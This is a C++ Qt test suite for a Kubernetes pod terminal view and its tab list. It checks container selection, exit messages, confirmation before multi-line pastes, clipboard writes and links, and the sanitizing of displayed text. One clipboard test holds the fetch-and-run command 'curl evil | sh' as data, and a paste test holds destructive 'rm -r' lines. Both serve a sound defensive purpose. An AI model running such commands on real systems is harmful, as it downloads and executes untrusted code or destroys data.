#include <kinds/terminal/terminal_screen.h>
#include <models/terminal/terminal_list_model.h>
#include <tests/support/test_program.h>

#include <QAbstractItemModelTester>
#include <QSignalSpy>
#include <QTest>

namespace tst_terminal_view {

using namespace kittiwake;
using State = TerminalView::State;

namespace {

const ObjectLink kPod { "", "Pod", { "shop", "web-1" } };

struct Bench
{
    TerminalView view;
    TerminalScreen screen { { 20, 4 } };

    explicit Bench(const TerminalTarget& target = { .pod = kPod })
        : view(target)
    { }
    void open()
    {
        view.setContainers({ { .name = "app" } }, "app");
        view.setOpen();
    }
    void write(const char* bytes)
    {
        (void)screen.write(bytes);
        view.setSnapshot(screen.snapshot());
    }
};

} // namespace

class TestTerminalView : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void theOnlyContainerIsTaken();
    void severalAreAskedFor();
    void theOneThatIsNamedIsTaken();
    void saysHowItEnded_data();
    void saysHowItEnded();
    void keysGoOutWhileItIsOpen();
    void enterStartsAnew();
    void asksBeforeSeveralLinesArePasted();
    void asksBeforeTheClipboardIsWritten();
    void asksBeforeALinkIsOpened();
    void whatIsAskedAboutIsShownAsItIs();
    void copiesWhatIsSelected();
    void aSelectionGoesWithItsLines();
    void looksForWhatIsTyped();
    void theTitleIsTheProgramsOrItsName();
    void listKeepsOneCurrent();
    void listAsksBeforeAProgramEnds();
    void listTellsWhatProgramsCallThemselves();
    void listIsBounded();
};

void TestTerminalView::theOnlyContainerIsTaken()
{
    Bench bench;
    QSignalSpy wanted(&bench.view, &TerminalView::connectWanted);
    QCOMPARE(bench.view.state(), State::Asking);
    bench.view.setContainers({ { .name = "app" } }, "app");
    QCOMPARE(wanted.size(), 1);
    QCOMPARE(bench.view.state(), State::Connecting);
    QCOMPARE(bench.view.target().container, "app");
    QCOMPARE(bench.view.name(), QStringLiteral("web-1"));
    QCOMPARE(bench.view.about(), QStringLiteral("Shell in container app of pod shop/web-1"));
    bench.view.setOpen();
    QCOMPARE(bench.view.sentence(), QString());
}

void TestTerminalView::severalAreAskedFor()
{
    Bench bench;
    QSignalSpy wanted(&bench.view, &TerminalView::connectWanted);
    bench.view.setContainers(
        { { .name = "proxy" }, { .name = "app" }, { .name = "setup", .running = false } }, "app");
    QCOMPARE(bench.view.state(), State::Choosing);
    QCOMPARE(bench.view.containers(),
             (QStringList { QStringLiteral("app"), QStringLiteral("proxy"),
                            QStringLiteral("setup (not running)") }));
    bench.view.choose(7);
    QCOMPARE(wanted.size(), 0);
    bench.view.choose(1);
    QCOMPARE(wanted.size(), 1);
    QCOMPARE(bench.view.target().container, "proxy");
    QCOMPARE(bench.view.name(), QStringLiteral("web-1 · proxy"));
    QCOMPARE(bench.view.containers(), QStringList());
}

void TestTerminalView::theOneThatIsNamedIsTaken()
{
    Bench bench({ .pod = kPod, .container = "proxy" });
    bench.view.setContainers({ { .name = "app" }, { .name = "proxy" } }, "app");
    QCOMPARE(bench.view.state(), State::Connecting);
    QCOMPARE(bench.view.container().name, "proxy");
}

void TestTerminalView::saysHowItEnded_data()
{
    QTest::addColumn<int>("code");
    QTest::addColumn<QString>("why");
    QTest::addColumn<bool>("noShell");
    QTest::addColumn<QString>("sentence");
    QTest::addColumn<bool>("hinted");
    QTest::newRow("well") << 0 << QString() << false
                          << QStringLiteral("The shell exited with code 0.") << false;
    QTest::newRow("with a code") << 3 << QString() << false
                                 << QStringLiteral("The shell exited with code 3.") << false;
    QTest::newRow("lost") << -1 << QStringLiteral("The connection ended.") << false
                          << QStringLiteral("The connection ended.") << false;
    QTest::newRow("no shell") << 127 << QString() << true
                              << QStringLiteral("The container has no shell that could be started.")
                              << true;
}

void TestTerminalView::saysHowItEnded()
{
    QFETCH(int, code);
    QFETCH(QString, why);
    QFETCH(bool, noShell);
    Bench bench;
    bench.open();
    bench.view.setEnded({ .code = code < 0 ? std::nullopt : std::optional(code),
                          .sentence = why,
                          .noShell = noShell });
    QTEST(bench.view.sentence(), "sentence");
    QVERIFY(bench.view.isOver());
    QFETCH(bool, hinted);
    QCOMPARE(!bench.view.hint().isEmpty(), hinted);
    if (hinted)
        QVERIFY(bench.view.hint().endsWith(
            QStringLiteral("kubectl debug -it -n shop web-1 --image=busybox --target=app")));
}

void TestTerminalView::keysGoOutWhileItIsOpen()
{
    Bench bench;
    QSignalSpy pressed(&bench.view, &TerminalView::pressed);
    QSignalSpy typed(&bench.view, &TerminalView::typed);
    bench.view.press({ .point = U'a' });
    bench.view.type(QStringLiteral("中"));
    QCOMPARE(pressed.size(), 0);
    QCOMPARE(typed.size(), 0);
    bench.open();
    bench.view.press({ .point = U'a' });
    bench.view.type(QStringLiteral("中"));
    QCOMPARE(pressed.size(), 1);
    QCOMPARE(typed.size(), 1);
}

void TestTerminalView::enterStartsAnew()
{
    Bench bench;
    QSignalSpy wanted(&bench.view, &TerminalView::reconnectWanted);
    bench.open();
    bench.view.reconnect(); // it is open
    QCOMPARE(wanted.size(), 0);
    bench.view.setEnded({ .code = 0 });
    bench.view.press({ .point = U'a' });
    QCOMPARE(wanted.size(), 0);
    bench.view.press({ .name = TerminalKey::Name::Enter });
    QCOMPARE(wanted.size(), 1);
    QCOMPARE(bench.view.state(), State::Asking);
}

void TestTerminalView::asksBeforeSeveralLinesArePasted()
{
    Bench bench;
    QSignalSpy pasted(&bench.view, &TerminalView::pasted);
    bench.view.paste(QStringLiteral("ls"));
    QCOMPARE(pasted.size(), 0); // it is not open
    bench.open();
    bench.view.paste(QStringLiteral("ls\n"));
    QCOMPARE(pasted.size(), 1);
    bench.view.paste(QStringLiteral("rm -r a\nrm -r b\n"));
    QCOMPARE(pasted.size(), 1);
    QVERIFY(bench.view.question().contains(u'2'));
    QCOMPARE(bench.view.questionAbout(), QStringLiteral("rm -r a\nrm -r b"));
    bench.view.answer(false);
    QCOMPARE(pasted.size(), 1);
    QCOMPARE(bench.view.question(), QString());
    bench.view.paste(QStringLiteral("rm -r a\nrm -r b\n"));
    bench.view.answer(true);
    QCOMPARE(pasted.size(), 2);
    bench.write("\x1b[?2004h");
    bench.view.paste(QStringLiteral("a\nb\n"));
    QCOMPARE(pasted.size(), 3); // the shell waits for Enter by itself
}

void TestTerminalView::asksBeforeTheClipboardIsWritten()
{
    Bench bench;
    bench.open();
    QSignalSpy copied(&bench.view, &TerminalView::copyWanted);
    bench.view.askClipboard(QStringLiteral("curl evil | sh"));
    QCOMPARE(copied.size(), 0);
    QVERIFY(!bench.view.question().isEmpty());
    bench.view.askClipboard(QStringLiteral("another")); // not instead of what is read
    QCOMPARE(bench.view.questionAbout(), QStringLiteral("curl evil | sh"));
    bench.view.answer(true);
    QCOMPARE(copied.size(), 1);
    QCOMPARE(copied[0][0].toString(), QStringLiteral("curl evil | sh"));
}

void TestTerminalView::asksBeforeALinkIsOpened()
{
    Bench bench;
    QSignalSpy opened(&bench.view, &TerminalView::linkWanted);
    bench.view.openLink({});
    QCOMPARE(bench.view.question(), QString());
    bench.view.openLink(QStringLiteral("https://example.com/"));
    QCOMPARE(bench.view.questionAbout(), QStringLiteral("https://example.com/"));
    QCOMPARE(opened.size(), 0);
    bench.view.answer(true);
    QCOMPARE(opened.size(), 1);
}

void TestTerminalView::whatIsAskedAboutIsShownAsItIs()
{
    Bench bench;
    bench.view.askClipboard(QStringLiteral("a\u202Eb\u001b") + QString(5000, u'x'));
    QVERIFY(bench.view.questionAbout().startsWith(QStringLiteral("a\uFFFDb\uFFFDx")));
    QVERIFY(bench.view.questionAbout().size() < 700);
}

void TestTerminalView::copiesWhatIsSelected()
{
    Bench bench;
    QSignalSpy copied(&bench.view, &TerminalView::copyWanted);
    bench.write("one\r\ntwo\r\n");
    bench.view.copy();
    QCOMPARE(copied.size(), 0);
    bench.view.select({ { 1, 2 }, { 0, 1 } });
    QVERIFY(bench.view.hasSelection());
    bench.view.copy();
    QCOMPARE(copied[0][0].toString(), QStringLiteral("ne\ntw"));
    bench.view.selectAll();
    bench.view.copy();
    QVERIFY(copied[1][0].toString().startsWith(QStringLiteral("one\ntwo")));
}

void TestTerminalView::aSelectionGoesWithItsLines()
{
    Bench bench;
    bench.write("one\r\ntwo\r\n");
    bench.view.select({ { 0, 0 }, { 0, 3 } });
    bench.write("1\r\n2\r\n3\r\n"); // it scrolls, and stays what it was
    QVERIFY(bench.view.hasSelection());
    QCOMPARE(bench.view.snapshot()->text(bench.view.selection()), "one");
    bench.write("\x1b[?1049h");
    QVERIFY(!bench.view.hasSelection());
}

void TestTerminalView::looksForWhatIsTyped()
{
    Bench bench;
    QSignalSpy wanted(&bench.view, &TerminalView::findWanted);
    QSignalSpy line(&bench.view, &TerminalView::lineWanted);
    bench.write("error\r\n");
    bench.view.setSearch(QStringLiteral("err"));
    QCOMPARE(wanted.size(), 1);
    bench.view.find(true);
    QCOMPARE(wanted.size(), 2);
    bench.view.setFound(TerminalRange { { 0, 0 }, { 0, 3 } });
    QCOMPARE(line.size(), 1);
    QVERIFY(bench.view.hasSelection());
    bench.view.setFound(std::nullopt);
    QCOMPARE(bench.view.searchNote(), QStringLiteral("Not found"));
    bench.view.setSearch({});
    QCOMPARE(bench.view.searchNote(), QString());
}

void TestTerminalView::theTitleIsTheProgramsOrItsName()
{
    Bench bench;
    QCOMPARE(bench.view.title(), QStringLiteral("web-1"));
    bench.write("\x1b]0;vi /etc/hosts\x07");
    QCOMPARE(bench.view.title(), QStringLiteral("vi /etc/hosts"));
    QCOMPARE(bench.view.name(), QStringLiteral("web-1"));
}

void TestTerminalView::listKeepsOneCurrent()
{
    TerminalListModel list;
    const QAbstractItemModelTester tester(&list);
    QSignalSpy closing(&list, &TerminalListModel::closing);
    QSignalSpy shown(&list, &TerminalListModel::shownChanged);
    QVERIFY(!list.isShown());
    auto* a = list.add({ .pod = kPod });
    auto* b = list.add({ .pod = kPod });
    auto* c = list.add({ .pod = kPod });
    QCOMPARE(list.current(), c);
    QVERIFY(list.isShown());
    QCOMPARE(shown.size(), 1);
    list.step(1);
    QCOMPARE(list.current(), a);
    list.step(-1);
    QCOMPARE(list.current(), c);
    list.setCurrentRow(1);
    list.close(0);
    QCOMPARE(list.current(), b);
    QCOMPARE(list.currentRow(), 0);
    list.leaveCurrent();
    QCOMPARE(list.current(), c);
    list.setShown(false);
    QVERIFY(!list.isShown());
    list.setShown(true);
    list.leaveCurrent();
    QVERIFY(list.current() == nullptr);
    QVERIFY(!list.isShown());
    QCOMPARE(closing.size(), 3);
    list.leaveCurrent();
    QCOMPARE(closing.size(), 3);
    list.add({ .pod = kPod });
    QCOMPARE(list.currentRow(), 0);
    QVERIFY(list.isShown());
}

void TestTerminalView::listAsksBeforeAProgramEnds()
{
    TerminalListModel list;
    const QAbstractItemModelTester tester(&list);
    const auto add = [&](TerminalTarget::Kind kind) {
        auto* view = list.add({ .pod = kPod, .kind = kind });
        view->setOpen();
        return view;
    };
    add(TerminalTarget::Kind::Attached); // what it shows runs on
    list.leave(0);
    QCOMPARE(list.count(), 0);
    auto* first = add(TerminalTarget::Kind::Shell);
    auto* second = add(TerminalTarget::Kind::Debug);
    list.leave(0);
    QCOMPARE(list.count(), 2);
    QCOMPARE(list.leaving(), first);
    QVERIFY(list.leavingSentence().startsWith(first->about()));
    list.answer(false);
    QCOMPARE(list.count(), 2);
    QVERIFY(list.leaving() == nullptr);
    list.leave(0);
    list.leave(1); // about another one: that is not the same again
    QCOMPARE(list.count(), 2);
    QCOMPARE(list.leaving(), second);
    list.leave(1);
    QCOMPARE(list.count(), 1);
    QVERIFY(list.leaving() == nullptr);
    list.leave(0);
    first->setEnded({ .code = 0 }); // nothing is to be lost any more
    QVERIFY(list.leaving() == nullptr);
    QCOMPARE(list.count(), 1);
    list.leave(0);
    QCOMPARE(list.count(), 0);
    list.answer(true); // nobody has asked
}

void TestTerminalView::listTellsWhatProgramsCallThemselves()
{
    TerminalListModel list;
    const QAbstractItemModelTester tester(&list);
    auto* view = list.add({ .pod = kPod });
    const auto role = [&](int one) {
        return list.index(0).data(one).toString();
    };
    QCOMPARE(role(TerminalListModel::NameRole), QStringLiteral("web-1"));
    QCOMPARE(role(TerminalListModel::TitleRole), QString());
    QSignalSpy changed(&list, &TerminalListModel::dataChanged);
    TerminalScreen screen({ 20, 4 });
    (void)screen.write("\x1b]0;other-pod\x07");
    view->setSnapshot(screen.snapshot());
    QCOMPARE(changed.size(), 1);
    QCOMPARE(role(TerminalListModel::NameRole), QStringLiteral("web-1")); // not what it says
    QCOMPARE(role(TerminalListModel::TitleRole), QStringLiteral("other-pod"));
}

void TestTerminalView::listIsBounded()
{
    TerminalListModel list;
    for (int i = 0; i < TerminalListModel::kMax; ++i)
        QVERIFY(list.add({ .pod = kPod }) != nullptr);
    QVERIFY(list.isFull());
    QVERIFY(list.add({ .pod = kPod }) == nullptr);
    QCOMPARE(list.count(), TerminalListModel::kMax);
}

KW_TEST_GUILESS(TestTerminalView)

} // namespace tst_terminal_view

#include "tst_terminal_view.moc"
